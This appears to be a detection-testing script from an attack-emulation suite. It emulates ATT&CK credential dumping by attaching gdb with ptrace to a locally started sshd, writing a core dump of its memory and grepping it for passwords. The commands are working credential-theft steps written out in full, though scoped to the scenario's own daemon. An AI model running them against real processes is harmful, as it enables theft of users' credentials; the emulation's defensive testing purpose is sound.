#!/bin/bash
# vigil-emulation: attack
# technique: T1003.007 OS Credential Dumping: Proc Filesystem; T1055.008 Process Injection: Ptrace System Calls
# tactic: credential-access
# what: attaches gdb to a running sshd (a private one the scenario starts on 127.0.0.1)
#   with ptrace and writes a core file of its memory to a scratch directory, then runs
#   `strings` over it for passwords.
# report: ptrace attach to sshd and a dump of its memory, by gdb.
# expect: ptrace|memory|dump|credential
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
. "$EMUL_LIB/ssh.sh"
emul_need sshd gdb

emul_sshd
pid=$(cat "$EMUL_SSHD_DIR/sshd.pid" 2>/dev/null || pgrep -f "$EMUL_SSHD_DIR/sshd_config" | head -1)
emul_tmpdir
timeout 60 gdb -q -batch -p "$pid" -ex "generate-core-file $EMUL_DIR/core" >/dev/null 2>&1
ls -la "$EMUL_DIR"
grep -ac 'pass' "$EMUL_DIR/core"* || true
